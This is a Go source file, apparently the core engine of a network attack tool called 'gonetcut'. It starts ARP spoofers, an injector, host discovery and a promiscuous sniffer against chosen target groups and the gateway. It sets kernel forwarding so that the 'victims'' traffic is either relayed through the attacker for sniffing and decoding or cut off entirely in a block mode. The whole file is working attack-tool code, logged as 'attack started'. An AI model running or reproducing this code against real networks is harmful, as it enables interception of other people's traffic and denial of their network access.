// Package engine wires the components of an attack together and runs
// them in order.
package engine

import (
	"context"
	"errors"
	"fmt"
	"sync"
	"time"

	"github.com/rs/zerolog"

	"gonetcut/internal/analysis"
	"gonetcut/internal/config"
	"gonetcut/internal/decoder"
	"gonetcut/internal/discovery"
	"gonetcut/internal/inject"
	"gonetcut/internal/koala"
	"gonetcut/internal/logging"
	"gonetcut/internal/models"
	"gonetcut/internal/platform"
	"gonetcut/internal/queue"
	"gonetcut/internal/sniff"
	"gonetcut/internal/spoofer"
	"gonetcut/internal/target"
)

var ErrRunning = errors.New("engine is running")

const (
	gatewayTimeout = 2 * time.Second
	maxEvents      = 50
)

// Event is one change of the target list reported by discovery.
type Event struct {
	At     time.Time
	Lost   bool
	Target string
}

// Master owns every component of one run.
type Master struct {
	base   zerolog.Logger
	logger zerolog.Logger
	cfg    *config.Config
	c      *config.Compiled
	plat   Platform

	list    *target.List
	traffic *analysis.TrafficStats
	sniffed *queue.Queue[*models.Frame]

	mu      sync.Mutex
	running bool
	cancel  context.CancelFunc
	started time.Time
	stopped time.Time

	iface     *platform.Interface
	gateway   *target.Target
	vendors   target.VendorLookup
	handle    platform.Capture
	capture   platform.Capture
	raw       platform.RawSender
	injector  *inject.Injector
	disc      *discovery.Discovery
	sniffer   *sniff.Sniffer
	filter    *koala.Filter
	chain     *decoder.Chain
	spoofers  []spoofer.Spoofer
	restoreFw *bool

	eventsMu sync.Mutex
	events   []Event
}

// New validates cfg. Nothing is opened until Start.
func New(logger zerolog.Logger, cfg *config.Config, plat Platform) (*Master, error) {
	c, err := cfg.Compile()
	if err != nil {
		return nil, err
	}
	return &Master{
		base:    logger,
		logger:  logging.WithScope(logger, "MASTER"),
		cfg:     cfg,
		c:       c,
		plat:    plat,
		list:    target.NewList(),
		traffic: analysis.NewTrafficStats(nil),
		sniffed: queue.New[*models.Frame](),
	}, nil
}

// Start builds the components and starts them: injector, discovery,
// sniffer, filter and finally the spoofers. On failure everything already
// started is shut down again.
func (m *Master) Start(ctx context.Context) error {
	m.mu.Lock()
	defer m.mu.Unlock()

	if m.running {
		return ErrRunning
	}
	if err := m.setup(); err != nil {
		m.teardown()
		return err
	}

	ctx, m.cancel = context.WithCancel(ctx)
	if err := m.startAll(ctx); err != nil {
		m.shutdown()
		return err
	}

	m.running = true
	m.started = time.Now()
	m.logger.Info().
		Str("mode", m.c.Mode.String()).
		Int("decoders", m.chain.Len()).
		Int("spoofers", len(m.spoofers)).
		Bool("discovery", m.disc != nil).
		Bool("sniffer", m.sniffer != nil).
		Msg("attack started")
	return nil
}

func (m *Master) startAll(ctx context.Context) error {
	if m.injector != nil {
		if err := m.injector.Start(); err != nil {
			return fmt.Errorf("failed to start injector: %w", err)
		}
	}
	if m.disc != nil {
		if err := m.disc.Start(ctx); err != nil {
			return fmt.Errorf("failed to start discovery: %w", err)
		}
	}
	if m.sniffer != nil {
		if err := m.sniffer.Start(); err != nil {
			return fmt.Errorf("failed to start sniffer: %w", err)
		}
	}
	if m.filter != nil {
		if err := m.filter.Start(); err != nil {
			return fmt.Errorf("failed to start filter: %w", err)
		}
	} else {
		m.forwardWithoutFilter()
	}
	for _, sp := range m.spoofers {
		if err := sp.Start(ctx); err != nil {
			return fmt.Errorf("failed to start spoofer %s: %w", sp.Name(), err)
		}
	}
	return nil
}

// Stop restores the victims and shuts down in order: spoofers,
// discovery, injector, sniffer and filter.
func (m *Master) Stop() {
	m.mu.Lock()
	defer m.mu.Unlock()

	if !m.running {
		return
	}
	m.shutdown()
	m.running = false
	m.stopped = time.Now()
	m.logger.Info().Dur("elapsed", m.stopped.Sub(m.started)).Msg("attack stopped")
}

func (m *Master) shutdown() {
	for _, sp := range m.spoofers {
		sp.Stop()
	}
	if m.disc != nil {
		m.disc.Stop()
		if err := m.disc.Err(); err != nil {
			m.logger.Warn().Err(err).Msg("discovery agent ended with an error")
		}
	}
	if m.injector != nil {
		m.injector.Stop()
	}
	if m.sniffer != nil {
		m.sniffer.Stop()
	}
	if m.filter != nil {
		m.filter.Stop()
	}
	if m.cancel != nil {
		m.cancel()
	}
	m.teardown()
}

// teardown releases what setup opened.
func (m *Master) teardown() {
	if m.restoreFw != nil {
		if err := m.plat.Forwarder.SetIPForwarding(*m.restoreFw); err != nil {
			m.logger.Warn().Err(err).Msg("could not restore ip forwarding")
		}
		m.restoreFw = nil
	}
	if m.capture != nil {
		m.capture.Close()
		m.capture = nil
	}
	if m.handle != nil {
		m.handle.Close()
		m.handle = nil
	}
	if m.raw != nil {
		if err := m.raw.Close(); err != nil {
			m.logger.Debug().Err(err).Msg("closing raw socket")
		}
		m.raw = nil
	}
}

// Done is closed when a replayed capture file has been read entirely. It
// is nil, and so never ready, for live runs.
func (m *Master) Done() <-chan struct{} {
	m.mu.Lock()
	defer m.mu.Unlock()
	if m.c.Mode != koala.ModeReplay || m.sniffer == nil {
		return nil
	}
	return m.sniffer.Done()
}

func (m *Master) setup() error {
	cfg, c := m.cfg, m.c

	m.vendors = target.IEEEVendors{}
	if cfg.Core.VendorFile != "" {
		db, err := target.LoadVendorDB(cfg.Core.VendorFile)
		if err != nil {
			m.logger.Warn().Err(err).Msg("vendor file ignored")
		} else {
			m.vendors = db.Supplement(m.vendors)
			m.logger.Debug().Int("entries", db.Len()).Msg("vendor list loaded")
		}
	}

	decoders := decoder.NewRegistry()
	if err := decoder.RegisterBuiltins(decoders); err != nil {
		return err
	}
	chain, err := decoders.Build(cfg.Decoders.Enabled, decoder.Deps{Logger: m.base, Stats: m.traffic})
	if err != nil {
		return err
	}
	m.chain = chain

	if c.Mode == koala.ModeReplay {
		return m.setupReplay()
	}
	return m.setupLive()
}

func (m *Master) setupReplay() error {
	cfg := m.cfg

	capture, err := m.plat.OpenOffline(cfg.Sniff.Read, cfg.Sniff.Filter)
	if err != nil {
		return err
	}
	m.capture = capture
	m.sniffer = sniff.New(logging.WithScope(m.base, "SNIFFER"), capture, m.sniffed, sniff.Config{
		Replayed: true,
		DumpPath: cfg.Sniff.Write,
		Snaplen:  uint32(cfg.Sniff.Snaplen),
	})

	m.filter = koala.New(logging.WithScope(m.base, "FILTER"), m.sniffed, nil, m.chain, nil)
	return m.filter.Configure(koala.Config{
		Mode:    koala.ModeReplay,
		Target1: m.c.Target1,
		Target2: m.c.Target2,
	})
}

func (m *Master) setupLive() error {
	cfg, c := m.cfg, m.c

	iface, err := m.plat.LookupInterface(cfg.Core.Interface)
	if err != nil {
		return err
	}
	m.iface = iface

	handle, err := m.plat.OpenLive(iface.Name, platform.CaptureConfig{
		Snaplen: int32(cfg.Sniff.Snaplen),
		Timeout: cfg.Sniff.Timeout.Duration,
		Filter:  "arp",
	})
	if err != nil {
		return err
	}
	m.handle = handle

	gw, err := m.resolveGateway()
	if err != nil {
		return err
	}
	m.gateway = gw
	m.logger.Info().Str("gateway", gw.String()).Str("interface", iface.Name).Msg("attacking")

	for _, b := range c.Bindings {
		if b.Apply(c.Target1, c.Target2) == 0 {
			m.logger.Warn().Str("ip", b.IP).Str("mac", b.MAC).Msg("binding matches no target group")
		}
		if t := b.Permanent(gw, m.targetOpts()...); t != nil && m.list.Add(t) {
			m.logger.Debug().Str("target", t.String()).Msg("permanent target added")
		}
	}

	m.injector = inject.New(logging.WithScope(m.base, "INJECTOR"), handle, inject.Config{
		Workers: cfg.Inject.Workers,
		Delay:   cfg.Inject.Delay.Duration,
	})
	m.injector.SetEnabled(true)

	m.disc = discovery.New(logging.WithScope(m.base, "DISCOVERY"), m.list, m.injector, m.plat.ARPTable, m.openDiscovery)
	err = m.disc.Configure(discovery.Config{
		Profile:        c.Profile,
		Iface:          iface,
		Gateway:        gw.NetIP(),
		Target1:        c.Target1,
		Target2:        c.Target2,
		ProbeInterval:  cfg.Discovery.ProbeInterval.Duration,
		NotifyInterval: cfg.Discovery.NotifyInterval.Duration,
		IdleWait:       cfg.Discovery.IdleWait.Duration,
		Vendors:        m.vendors,
		OnUpdate:       m.onUpdate,
	})
	if err != nil {
		return err
	}

	spoofers := spoofer.NewRegistry()
	if err := spoofer.RegisterBuiltins(spoofers); err != nil {
		return err
	}
	m.spoofers, err = spoofers.Build(cfg.Attack.Spoofers, spoofer.Deps{
		Logger:      m.base,
		List:        m.list,
		Injector:    m.injector,
		OurMAC:      iface.MAC,
		Gateway:     gw,
		Target1:     c.Target1,
		Target2:     c.Target2,
		FullDuplex:  cfg.Attack.FullDuplex,
		Interval:    cfg.Attack.Interval.Duration,
		RearpRounds: cfg.Attack.RearpRounds,
		RearpGap:    cfg.Attack.RearpGap.Duration,
	})
	if err != nil {
		return err
	}

	if !c.Sniffing {
		return nil
	}
	return m.setupSniffing()
}

func (m *Master) setupSniffing() error {
	cfg, c, iface := m.cfg, m.c, m.iface

	capture, err := m.plat.OpenLive(iface.Name, platform.CaptureConfig{
		Snaplen: int32(cfg.Sniff.Snaplen),
		Promisc: cfg.Sniff.Promisc,
		Timeout: cfg.Sniff.Timeout.Duration,
		Filter:  cfg.Sniff.Filter,
	})
	if err != nil {
		return err
	}
	m.capture = capture
	m.sniffer = sniff.New(logging.WithScope(m.base, "SNIFFER"), capture, m.sniffed, sniff.Config{
		DumpPath: cfg.Sniff.Write,
		Snaplen:  uint32(cfg.Sniff.Snaplen),
	})

	var fwd koala.Forwarder
	if c.Mode.Forwards() {
		raw, err := m.plat.NewRawSender()
		if err != nil {
			return err
		}
		m.raw = raw
		fwd = raw
	}

	m.filter = koala.New(logging.WithScope(m.base, "FILTER"), m.sniffed, fwd, m.chain, m.plat.Forwarder)
	return m.filter.Configure(koala.Config{
		Mode:    c.Mode,
		OurMAC:  iface.MAC.String(),
		OurIP:   iface.IP.String(),
		Target1: c.Target1,
		Target2: c.Target2,
	})
}

func (m *Master) resolveGateway() (*target.Target, error) {
	ip := m.c.Gateway
	if ip == nil {
		found, err := m.plat.DefaultGateway()
		if err != nil {
			return nil, err
		}
		ip = found
	}

	mac, err := platform.ResolveMAC(m.logger, m.plat.ARPTable, m.handle, m.iface, ip, gatewayTimeout)
	if err != nil {
		return nil, fmt.Errorf("could not find the gateway %s: %w", ip, err)
	}
	return target.New(ip.String(), mac.String(), m.targetOpts(target.Permanent())...)
}

func (m *Master) targetOpts(opts ...target.Option) []target.Option {
	if m.vendors != nil {
		opts = append(opts, target.WithVendors(m.vendors))
	}
	return opts
}

func (m *Master) openDiscovery(filter string, timeout time.Duration) (platform.Capture, error) {
	return m.plat.OpenLive(m.iface.Name, platform.CaptureConfig{
		Snaplen: 128,
		Timeout: timeout,
		Filter:  filter,
	})
}

// forwardWithoutFilter lets the kernel route the victims' traffic when
// nothing is sniffed, unless the attack cuts them off.
func (m *Master) forwardWithoutFilter() {
	if m.plat.Forwarder == nil || m.c.Mode == koala.ModeReplay {
		return
	}
	prev, err := m.plat.Forwarder.IPForwarding()
	if err != nil {
		m.logger.Warn().Err(err).Msg("could not read ip forwarding")
		return
	}
	want := m.c.Mode != koala.ModeBlock
	if err := m.plat.Forwarder.SetIPForwarding(want); err != nil {
		m.logger.Warn().Err(err).Msg("could not set ip forwarding")
		return
	}
	m.restoreFw = &prev
	m.logger.Debug().Bool("on", want).Msg("kernel forwarding set")
}

func (m *Master) onUpdate(up discovery.Update) {
	m.eventsMu.Lock()
	defer m.eventsMu.Unlock()

	for _, t := range up.New {
		m.events = append(m.events, Event{At: up.At, Target: t.String()})
	}
	for _, t := range up.Lost {
		m.events = append(m.events, Event{At: up.At, Lost: true, Target: t.String()})
	}
	if n := len(m.events); n > maxEvents {
		m.events = append([]Event(nil), m.events[n-maxEvents:]...)
	}
}
